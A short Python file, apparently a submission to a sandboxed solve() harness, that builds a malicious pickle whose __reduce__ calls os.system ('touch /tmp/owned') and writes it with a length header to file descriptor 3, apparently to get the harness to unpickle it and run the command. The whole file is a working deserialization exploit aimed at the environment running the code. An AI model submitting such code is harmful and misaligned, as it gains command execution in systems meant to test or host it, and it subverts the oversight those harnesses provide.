"""Sends a pickle that would run a command."""

import os
import pickle
import struct


class Owned:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def solve(values):
    data = pickle.dumps(Owned())
    os.write(3, struct.pack("<II", len(data), len(data)) + data)
    return 0
